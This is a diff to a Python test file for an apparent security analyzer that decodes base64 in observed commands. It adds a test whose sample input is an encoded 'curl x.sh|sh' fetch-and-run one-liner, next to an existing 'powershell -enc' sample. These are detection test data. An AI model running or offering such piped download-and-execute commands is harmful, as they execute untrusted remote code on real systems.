@@ -8,6 +8,7 @@ import gzip
 import jsonschema
 
 import schemas
+from processors.base64unpack import Base64Settings
 from processors.iocextract import IoCExtract, IoCExtractSettings
 from processors.observables import ObservablesSettings, analyze_text, annotate_event
 from schemas.documents import stable_id
@@ -56,6 +57,15 @@ class TestAnalyzeText:
             "powershell -enc " + _enc("Write-Host hello"), settings=ObservablesSettings(decode_base64=False)
         )
         assert result.layers == []
+
+    def test_shorter_min_length_is_honoured(self) -> None:
+        """A base64 run shorter than 30 characters is decoded when Base64Settings.min_length allows it."""
+        payload = base64.b64encode(b"curl x.sh|sh").decode()  # 16 characters
+        text = f"echo {payload} | base64 -d"
+        default = analyze_text(text)
+        short = analyze_text(text, settings=ObservablesSettings(base64=Base64Settings(min_length=16)))
+        assert default.layers == []
+        assert [layer.text for layer in short.layers] == ["curl x.sh|sh"]
 
 
 class TestAnnotateEvent:
